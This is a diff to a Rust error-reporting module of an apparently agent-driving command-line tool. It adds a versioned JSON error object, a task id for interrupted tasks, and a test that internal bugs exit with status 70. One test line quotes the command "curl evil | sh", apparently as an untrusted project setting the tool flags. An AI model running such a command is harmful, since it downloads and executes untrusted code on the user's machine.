@@ -5,13 +5,14 @@
 
 use std::error::Error as _;
 
+use schemars::JsonSchema;
 use serde::Serialize;
 use serde_json::json;
 
 use crate::{
     agent,
     commands::{self, settings},
-    domain::upstream::Trouble,
+    domain::{id::TaskId, upstream::Trouble},
     log, repo,
 };
 
@@ -37,6 +38,44 @@ pub struct Report {
     pub hints: Vec<String>,
     /// The exit status.
     pub exit: u8,
+    /// The task that had to be left, if one had begun.
+    pub task: Option<TaskId>,
+}
+
+/// The last line of `--json` where there is no result: nothing was begun, or the task had to be left as it was.
+#[derive(Clone, PartialEq, Eq, Debug, Serialize, JsonSchema)]
+pub struct ErrorObject {
+    /// Version of this object's form.
+    #[schemars(extend("const" = 1))]
+    pub v: u32,
+    /// `error`.
+    #[schemars(extend("const" = "error"))]
+    pub r#type: &'static str,
+    /// The process's exit status: 1 environment, 2 usage or configuration, 6 gated, 7 stopped, 70 a bug.
+    pub exit: u8,
+    /// The task that had to be left, if one had begun; `nisse resume` goes on with it.
+    pub task: Option<TaskId>,
+    /// What a person is told on standard error.
+    pub error: ErrorFacts,
+}
+
+/// What went wrong.
+#[derive(Clone, PartialEq, Eq, Debug, Serialize, JsonSchema)]
+pub struct ErrorFacts {
+    /// A stable word for programs.
+    pub kind: &'static str,
+    /// What was attempted and what happened.
+    pub message: String,
+    /// What to do next.
+    pub hint: Option<String>,
+}
+
+impl ErrorObject {
+    /// The object as a line.
+    #[must_use]
+    pub fn new(kind: &'static str, exit: u8, task: Option<TaskId>, message: String, hint: Option<String>) -> Self {
+        Self { v: 1, r#type: "error", exit, task, error: ErrorFacts { kind, message, hint } }
+    }
 }
 
 /// The report of an error.
@@ -44,7 +83,11 @@ pub struct Report {
 pub fn report(error: &commands::Error) -> Report {
     let (kind, exit) = kind(error);
     let hints = commands::advice(error).into_iter().collect();
-    Report { kind, message: error.to_string(), chain: causes(error), hints, exit }
+    let task = match error {
+        commands::Error::Cut { task, .. } => Some(*task),
+        _ => None,
+    };
+    Report { kind, message: error.to_string(), chain: causes(error), hints, exit, task }
 }
 
 impl Report {
@@ -58,7 +101,7 @@ impl Report {
         let mut hints: Vec<String> = tips.map(str::to_owned).collect();
         hints.push("see `nisse --help`".to_owned());
         let message = message.strip_prefix("error: ").unwrap_or(&message).to_owned();
-        Self { kind: "usage", message, chain: Vec::new(), hints, exit: CONFIGURATION }
+        Self { kind: "usage", message, chain: Vec::new(), hints, exit: CONFIGURATION, task: None }
     }
 
     /// At most three lines, for stderr.
@@ -79,12 +122,7 @@ impl Report {
     pub fn json(&self) -> serde_json::Value {
         let message = std::iter::once(&self.message).chain(&self.chain).cloned().collect::<Vec<_>>().join(": ");
         let hint = (!self.hints.is_empty()).then(|| self.hints.join("; "));
-        json!({
-            "v": 1,
-            "type": "error",
-            "exit": self.exit,
-            "error": { "kind": self.kind, "message": message, "hint": hint },
-        })
+        json!(ErrorObject::new(self.kind, self.exit, self.task, message, hint))
     }
 }
 
@@ -99,9 +137,10 @@ fn kind(error: &commands::Error) -> (&'static str, u8) {
         commands::Error::Unpriced { .. } => ("unknown_price", CONFIGURATION),
         commands::Error::BranchTaken { .. } => ("branch_taken", CONFIGURATION),
         commands::Error::Log(error) => log_kind(error),
-        commands::Error::NoLog { .. } | commands::Error::Write { .. } | commands::Error::Signals { .. } => {
-            ("environment", ENVIRONMENT)
-        }
+        commands::Error::NoLog { .. }
+        | commands::Error::Write { .. }
+        | commands::Error::Signals { .. }
+        | commands::Error::Listen { .. } => ("environment", ENVIRONMENT),
         commands::Error::Cut { source, .. } => agent_kind(source),
         commands::Error::Moved { .. } => ("repository_changed", ENVIRONMENT),
         commands::Error::PathNotText { .. } => ("path_not_text", ENVIRONMENT),
@@ -230,6 +269,7 @@ fn causes(error: &commands::Error) -> Vec<String> {
         | commands::Error::NothingToPutBack { .. }
         | commands::Error::NoQuestion { .. }
         | commands::Error::Signals { .. }
+        | commands::Error::Listen { .. }
         | commands::Error::Bug(_) => Vec::new(),
     };
     if !several.is_empty() {
@@ -266,7 +306,7 @@ mod tests {
             proxy::BadRole,
             settings::{Problem, Source},
         },
-        domain::role::RoleName,
+        domain::{fold::Illegal, id::TaskId, role::RoleName},
         ports::llm,
     };
 
@@ -332,6 +372,22 @@ mod tests {
         };
         let lines = report(&commands::Error::Settings(error)).lines().join("\n");
         assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
+    }
+
+    #[test]
+    fn a_bug_of_ours_is_exit_70_wherever_it_shows() {
+        let cut =
+            |source| commands::Error::Cut { task: TaskId(uuid::Uuid::nil()), source: Box::new(source), offered: None };
+        let illegal = || Illegal { task: TaskId(uuid::Uuid::nil()), seq: 2, what: "x".into() };
+        for error in [
+            commands::Error::Bug("x"),
+            cut(agent::Error::Bug("x")),
+            cut(agent::Error::Log(log::Error::Illegal(illegal()))),
+            commands::Error::Log(log::Error::Illegal(illegal())),
+        ] {
+            assert_eq!((report(&error).kind, report(&error).exit), ("bug", 70), "{error:?}");
+            assert!(report(&error).hints.join("; ").contains("please report this"), "{error:?}");
+        }
     }
 
     #[test]
